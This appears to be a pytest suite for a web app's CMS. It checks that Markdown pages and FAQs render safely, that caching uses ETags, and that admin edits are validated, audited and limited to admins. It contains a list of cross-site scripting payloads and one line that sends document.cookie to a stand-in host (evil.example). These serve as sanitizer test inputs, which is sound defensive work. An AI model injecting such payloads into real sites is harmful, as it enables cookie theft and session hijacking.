"""The CMS over HTTP: published pages and FAQs (rendered Markdown that stays inert,
conditional GETs with strong ETags) and their admin editing with its audit log."""

from __future__ import annotations

import json
import uuid
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest
from litestar import Litestar

from server.domain.cms.markdown import ALLOWED_TAGS, render_markdown
from server.domain.tables.accounts import Role, User
from server.domain.tables.admin import AdminAuditLog
from server.http.routes.cms import AdminCmsPageController, AdminFaqController, CmsController
from tests.support.accounts import Account
from tests.support.community import Community
from tests.support.pages import envelope, walk

API = "/api/v1"
CONTROLLERS = [CmsController, AdminCmsPageController, AdminFaqController]


# -- fixtures ----------------------------------------------------------------------------------


@pytest.fixture
async def served(app: Litestar) -> AsyncIterator[Litestar]:
    """The real app (the CMS and admin controllers are registered in server/app.py)."""
    yield app


@pytest.fixture
async def api(served: Litestar) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=served, client=("127.0.0.1", 40000))
    async with httpx.AsyncClient(transport=transport, base_url="http://lounges.test") as http:
        yield http


@pytest.fixture
async def admin(community: Community) -> Account:
    account = await community.user("cms-admin@example.com")
    await User.update({User.role: Role.admin}).where(User.id == uuid.UUID(account.id))
    return account


def problem(response: httpx.Response, status: int, code: str) -> None:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["code"] == code


async def audit_rows(target_id: str) -> list[dict[str, Any]]:
    """The audit rows about ``target_id``, oldest first, ``detail`` decoded."""
    rows = await AdminAuditLog.select().where(AdminAuditLog.target_id == target_id).order_by(AdminAuditLog.created_at)
    return [{**row, "detail": json.loads(row["detail"])} for row in rows]


# -- the sanitizer -----------------------------------------------------------------------------


class _Elements(HTMLParser):
    """Every element and attribute a browser would build from an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


ATTACKS = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>raw link</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    '![img](x "a" onerror="alert(1)")',
    "<javascript:alert(1)>",
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "<style>body{display:none}</style>",
    "<!-- <script>alert(1)</script> -->",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "```html\n<script>alert(1)</script>\n```",
    "<div style='background:url(javascript:alert(1))'>x</div>",
]


def assert_inert(html: str) -> None:
    """No element a browser would run: only Markdown's tags, no handlers, only safe URL schemes."""
    assert "<script" not in html.lower(), html
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, html)
            if name in ("href", "src"):
                scheme = (value or "").split(":", 1)[0].lower() if ":" in (value or "") else ""
                assert scheme in ("", "http", "https", "mailto"), (value, html)
            if name == "style":
                assert (value or "").startswith("text-align:"), (value, html)


@pytest.mark.parametrize("source", ATTACKS)
def test_markdown_renders_attacks_inert(source: str) -> None:
    assert_inert(render_markdown(f"Before\n\n{source}\n\nAfter"))


def test_markdown_keeps_ordinary_formatting() -> None:
    html = render_markdown(
        "# Terms\n\nPlain **bold** *em* ~~gone~~ `code` [site](https://lounges.dev) "
        "[mail](mailto:help@lounges.dev) [here](/faq)\n\n"
        "- one\n- two\n\n3. three\n\n> quote\n\n| left | right |\n|:--|--:|\n| 1 | 2 |\n\n"
        "![logo](https://lounges.dev/logo.png)"
    )
    assert "<h1>Terms</h1>" in html
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html and "<s>gone</s>" in html
    assert '<a href="https://lounges.dev" rel="noopener noreferrer nofollow">site</a>' in html
    assert 'href="mailto:help@lounges.dev"' in html and 'href="/faq"' in html
    assert '<ol start="3">' in html and "<blockquote>" in html
    assert '<th style="text-align:left">left</th>' in html and '<td style="text-align:right">2</td>' in html
    assert '<img src="https://lounges.dev/logo.png" alt="logo">' in html


# -- pages -------------------------------------------------------------------------------------


async def test_stored_script_renders_inert_on_the_public_page(api: httpx.AsyncClient, admin: Account) -> None:
    body = (
        "# Terms\n\n<script>alert('stolen')</script>\n\n"
        "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">\n\n"
        "[Continue](javascript:alert(document.cookie))"
    )
    created = await api.post(
        f"{API}/admin/cms/pages",
        headers=admin.headers,
        json={"slug": "terms", "title": "Terms of service", "body_markdown": body, "published": True},
    )
    assert created.status_code == 201, created.text
    assert created.json()["body_markdown"] == body  # stored as written

    page = await api.get(f"{API}/cms/pages/terms")
    assert page.status_code == 200, page.text
    out = page.json()
    assert out["body_markdown"] == body and out["title"] == "Terms of service"
    html = out["body_html"]
    assert_inert(html)
    assert "&lt;script&gt;alert('stolen')&lt;/script&gt;" in html  # shown as text, never run
    assert "&lt;img src=x onerror=" in html
    assert [tag for tag, _ in elements(html)] == ["h1", "p", "p", "p"]  # the javascript: link is no link
    # The admin preview is rendered by the same sanitizer.
    assert created.json()["body_html"] == html


async def test_unpublished_and_unknown_pages_are_404(api: httpx.AsyncClient, admin: Account) -> None:
    draft = await api.post(
        f"{API}/admin/cms/pages",
        headers=admin.headers,
        json={"slug": "privacy", "title": "Privacy", "body_markdown": "x"},
    )
    assert draft.status_code == 201 and draft.json()["published"] is False
    problem(await api.get(f"{API}/cms/pages/privacy"), 404, "page_not_found")
    problem(await api.get(f"{API}/cms/pages/nothing-here"), 404, "page_not_found")
    problem(await api.get(f"{API}/cms/pages/Not%20A%20Slug"), 404, "page_not_found")
    problem(await api.get(f"{API}/cms/pages/{'a' * 5000}"), 404, "page_not_found")

    published = await api.put(
        f"{API}/admin/cms/pages/{draft.json()['id']}", headers=admin.headers, json={"published": True}
    )
    assert published.status_code == 200 and published.json()["published"] is True
    assert (await api.get(f"{API}/cms/pages/privacy")).status_code == 200

    withdrawn = await api.put(
        f"{API}/admin/cms/pages/{draft.json()['id']}", headers=admin.headers, json={"published": False}
    )
    assert withdrawn.json()["published"] is False
    problem(await api.get(f"{API}/cms/pages/privacy"), 404, "page_not_found")


async def test_pages_are_cacheable_with_a_strong_etag(api: httpx.AsyncClient, admin: Account) -> None:
    created = await api.post(
        f"{API}/admin/cms/pages",
        headers=admin.headers,
        json={"slug": "about", "title": "About", "body_markdown": "We **coach**.", "published": True},
    )
    page_id = created.json()["id"]

    first = await api.get(f"{API}/cms/pages/about")
    etag = first.headers["etag"]
    assert etag.startswith('"') and etag.endswith('"') and not etag.startswith("W/")
    assert first.headers["cache-control"] == "public, max-age=60"
    again = await api.get(f"{API}/cms/pages/about")
    assert again.headers["etag"] == etag  # deterministic

    for header in (etag, f"W/{etag}", f'"other", {etag}', "*"):
        cached = await api.get(f"{API}/cms/pages/about", headers={"If-None-Match": header})
        assert cached.status_code == 304, header
        assert cached.content == b""
        assert cached.headers["etag"] == etag and cached.headers["cache-control"] == "public, max-age=60"
    stale = await api.get(f"{API}/cms/pages/about", headers={"If-None-Match": '"something-else"'})
    assert stale.status_code == 200 and stale.json()["title"] == "About"

    # An edit changes the representation, so the old tag no longer matches.
    edited = await api.put(
        f"{API}/admin/cms/pages/{page_id}", headers=admin.headers, json={"body_markdown": "We **mentor**."}
    )
    assert edited.status_code == 200
    assert edited.json()["updated_at"] > created.json()["updated_at"]
    fresh = await api.get(f"{API}/cms/pages/about", headers={"If-None-Match": etag})
    assert fresh.status_code == 200
    assert fresh.headers["etag"] != etag
    assert fresh.json()["body_html"] == "<p>We <strong>mentor</strong>.</p>\n"


async def test_admin_page_crud_is_validated_and_audited(api: httpx.AsyncClient, admin: Account) -> None:
    created = await api.post(
        f"{API}/admin/cms/pages",
        headers=admin.headers,
        json={"slug": "help", "title": "  Help  ", "body_markdown": "Ask **us**."},
    )
    assert created.status_code == 201
    page = created.json()
    assert (page["title"], page["updated_by"]) == ("Help", admin.id)

    problem(
        await api.post(f"{API}/admin/cms/pages", headers=admin.headers, json={"slug": "help", "title": "Again"}),
        409,
        "page_slug_taken",
    )
    for body in (
        {"slug": "Bad Slug", "title": "x"},
        {"slug": "ok", "title": ""},
        {"slug": "ok", "title": "x", "unknown": 1},
        {"slug": "ok", "title": "x", "body_markdown": "x" * 100_001},
        {"slug": "x" * 121, "title": "x"},
    ):
        problem(await api.post(f"{API}/admin/cms/pages", headers=admin.headers, json=body), 422, "validation_failed")
    problem(
        await api.post(f"{API}/admin/cms/pages", headers=admin.headers, json={"slug": "ok", "title": "   "}),
        422,
        "invalid_title",
    )

    other = (
        await api.post(f"{API}/admin/cms/pages", headers=admin.headers, json={"slug": "other", "title": "Other"})
    ).json()
    problem(
        await api.put(f"{API}/admin/cms/pages/{other['id']}", headers=admin.headers, json={"slug": "help"}),
        409,
        "page_slug_taken",
    )
    problem(
        await api.put(f"{API}/admin/cms/pages/{uuid.uuid4()}", headers=admin.headers, json={"title": "x"}),
        404,
        "page_not_found",
    )
    updated = await api.put(
        f"{API}/admin/cms/pages/{page['id']}",
        headers=admin.headers,
        json={"title": "Help centre", "body_markdown": "Ask *anyone*.", "published": True},
    )
    assert updated.status_code == 200
    assert (updated.json()["title"], updated.json()["body_html"]) == ("Help centre", "<p>Ask <em>anyone</em>.</p>\n")
    unchanged = await api.put(
        f"{API}/admin/cms/pages/{page['id']}", headers=admin.headers, json={"title": "Help centre"}
    )
    assert unchanged.json()["updated_at"] == updated.json()["updated_at"]  # a no-op is not an edit

    one = await api.get(f"{API}/admin/cms/pages/{other['id']}", headers=admin.headers)
    assert one.status_code == 200 and one.json()["published"] is False
    listing = envelope(await api.get(f"{API}/admin/cms/pages", headers=admin.headers))
    assert [p["slug"] for p in listing["items"]] == ["help", "other"] and listing["next_cursor"] is None
    drafts = envelope(await api.get(f"{API}/admin/cms/pages?published=false", headers=admin.headers))
    assert [p["slug"] for p in drafts["items"]] == ["other"] and drafts["next_cursor"] is None
    assert await walk(api, f"{API}/admin/cms/pages", headers=admin.headers, limit=1) == listing["items"]

    assert (await api.delete(f"{API}/admin/cms/pages/{page['id']}", headers=admin.headers)).status_code == 204
    problem(await api.delete(f"{API}/admin/cms/pages/{page['id']}", headers=admin.headers), 404, "page_not_found")
    problem(await api.get(f"{API}/cms/pages/help"), 404, "page_not_found")

    rows = await audit_rows(page["id"])
    assert [row["action"] for row in rows] == ["cms_page.create", "cms_page.update", "cms_page.delete"]
    assert all(row["actor"] == uuid.UUID(admin.id) and row["target_type"] == "static_page" for row in rows)
    assert rows[0]["ip"] == "127.0.0.1"
    update = rows[1]["detail"]
    assert update["changes"]["title"] == "Help centre" and update["before"]["title"] == "Help"
    assert update["changes"]["published"] is True and update["before"]["published"] is False
    # Long texts are kept as a fingerprint, not copied into the log.
    assert set(update["changes"]["body_markdown"]) == {"length", "sha256"}
    assert rows[2]["detail"]["slug"] == "help"


# -- FAQs --------------------------------------------------------------------------------------


async def test_faqs_public_list_order_and_cache(api: httpx.AsyncClient, admin: Account) -> None:
    async def create(**fields: Any) -> dict[str, Any]:
        response = await api.post(f"{API}/admin/faqs", headers=admin.headers, json=fields)
        assert response.status_code == 201, response.text
        return response.json()

    billing_2 = await create(
        question="Refunds?", answer_markdown="Within **14 days**.", category="billing", published=True
    )
    billing_1 = await create(
        question="Which cards?", answer_markdown="All major.", category="billing", position=1, published=True
    )
    general = await create(question="What is Lounges?", answer_markdown="Coaching.", published=True)
    draft = await create(question="Secret?", answer_markdown="Not yet.", category="billing")
    evil = await create(
        question="<b>Safe?</b>",
        answer_markdown="Yes <script>alert(1)</script> [x](javascript:alert(1))",
        published=True,
    )
    assert (billing_2["position"], general["position"], evil["position"], draft["position"]) == (10, 10, 20, 20)

    response = await api.get(f"{API}/cms/faqs")
    assert response.status_code == 200
    assert response.json()["next_cursor"] is None  # one page
    faqs = envelope(response)["items"]
    assert [f["id"] for f in faqs] == [general["id"], evil["id"], billing_1["id"], billing_2["id"]]
    assert draft["id"] not in {f["id"] for f in faqs}
    assert faqs[3]["answer_html"] == "<p>Within <strong>14 days</strong>.</p>\n"
    assert faqs[1]["question"] == "<b>Safe?</b>"  # plain text: clients must not render it as HTML
    assert_inert(faqs[1]["answer_html"])
    assert "&lt;script&gt;" in faqs[1]["answer_html"] and "<a" not in faqs[1]["answer_html"]
    etag = response.headers["etag"]
    assert response.headers["cache-control"] == "public, max-age=60"
    assert (await api.get(f"{API}/cms/faqs", headers={"If-None-Match": etag})).status_code == 304

    only_billing = (await api.get(f"{API}/cms/faqs?category=billing")).json()["items"]
    assert [f["id"] for f in only_billing] == [billing_1["id"], billing_2["id"]]

    # Publishing the draft changes the list, so the old tag no longer matches.
    updated = await api.put(f"{API}/admin/faqs/{draft['id']}", headers=admin.headers, json={"published": True})
    assert updated.status_code == 200 and updated.json()["published"] is True
    fresh = await api.get(f"{API}/cms/faqs", headers={"If-None-Match": etag})
    assert fresh.status_code == 200 and draft["id"] in {f["id"] for f in fresh.json()["items"]}

    # Admins page through every FAQ in the public order (uncategorised first).
    admin_list = envelope(await api.get(f"{API}/admin/faqs", headers=admin.headers))
    in_order = [general, evil, billing_1, billing_2, draft]
    assert [f["id"] for f in admin_list["items"]] == [f["id"] for f in in_order]
    assert [f["id"] for f in fresh.json()["items"]] == [f["id"] for f in in_order]
    for limit in (1, 2):
        assert await walk(api, f"{API}/admin/faqs", headers=admin.headers, limit=limit) == admin_list["items"]
    billing = await walk(api, f"{API}/admin/faqs", headers=admin.headers, params={"category": "billing"}, limit=1)
    assert [f["id"] for f in billing] == [billing_1["id"], billing_2["id"], draft["id"]]
    unpublished = await api.put(f"{API}/admin/faqs/{draft['id']}", headers=admin.headers, json={"published": False})
    assert unpublished.json()["published"] is False
    drafts = (await api.get(f"{API}/admin/faqs?published=false", headers=admin.headers)).json()
    assert [f["id"] for f in drafts["items"]] == [draft["id"]]


async def test_admin_faq_edits_are_validated_and_audited(api: httpx.AsyncClient, admin: Account) -> None:
    created = await api.post(
        f"{API}/admin/faqs",
        headers=admin.headers,
        json={"question": "How do I join?", "answer_markdown": "Tap **Join**.", "category": "lounges"},
    )
    faq = created.json()
    for body in (
        {"question": "", "answer_markdown": "x"},
        {"question": "q", "answer_markdown": ""},
        {"question": "q" * 301, "answer_markdown": "x"},
        {"question": "q", "answer_markdown": "x", "position": -1},
        {"question": "q", "answer_markdown": "x", "extra": True},
    ):
        problem(await api.post(f"{API}/admin/faqs", headers=admin.headers, json=body), 422, "validation_failed")
    problem(
        await api.post(f"{API}/admin/faqs", headers=admin.headers, json={"question": " ", "answer_markdown": "x"}),
        422,
        "invalid_question",
    )
    problem(
        await api.put(f"{API}/admin/faqs/{uuid.uuid4()}", headers=admin.headers, json={"position": 3}),
        404,
        "faq_not_found",
    )

    edited = await api.put(
        f"{API}/admin/faqs/{faq['id']}",
        headers=admin.headers,
        json={"answer_markdown": "Tap *Join* on the lounge.", "category": None, "position": 5, "published": True},
    )
    assert edited.status_code == 200, edited.text
    out = edited.json()
    assert (out["category"], out["position"], out["published"]) == (None, 5, True)
    assert out["answer_html"] == "<p>Tap <em>Join</em> on the lounge.</p>\n"
    assert (await api.get(f"{API}/admin/faqs/{faq['id']}", headers=admin.headers)).json() == out

    assert (await api.delete(f"{API}/admin/faqs/{faq['id']}", headers=admin.headers)).status_code == 204
    problem(await api.get(f"{API}/admin/faqs/{faq['id']}", headers=admin.headers), 404, "faq_not_found")
    assert (await api.get(f"{API}/cms/faqs")).json() == {"items": [], "next_cursor": None}

    rows = await audit_rows(faq["id"])
    assert [row["action"] for row in rows] == ["faq.create", "faq.update", "faq.delete"]
    assert rows[0]["detail"]["category"] == "lounges"
    changes, before = rows[1]["detail"]["changes"], rows[1]["detail"]["before"]
    assert (changes["category"], before["category"]) == (None, "lounges")
    assert (changes["position"], before["position"]) == (5, 10)
    assert set(changes["answer_markdown"]) == {"length", "sha256"}
    assert rows[2]["detail"]["question"] == "How do I join?"


async def test_cms_admin_routes_refuse_non_admins(api: httpx.AsyncClient, community: Community) -> None:
    """(Every admin route, these included, is enumerated in tests/test_admin.py.)"""
    member = await community.user("cms-member@example.com")
    faq = str(uuid.uuid4())
    for method, path in (
        ("POST", "/admin/cms/pages"),
        ("PUT", f"/admin/cms/pages/{faq}"),
        ("PUT", f"/admin/faqs/{faq}"),
        ("GET", "/admin/faqs"),
    ):
        json_body = {} if method != "GET" else None
        problem(await api.request(method, API + path, json=json_body, headers=member.headers), 403, "role_required")
        problem(await api.request(method, API + path, json=json_body), 401, "missing_token")
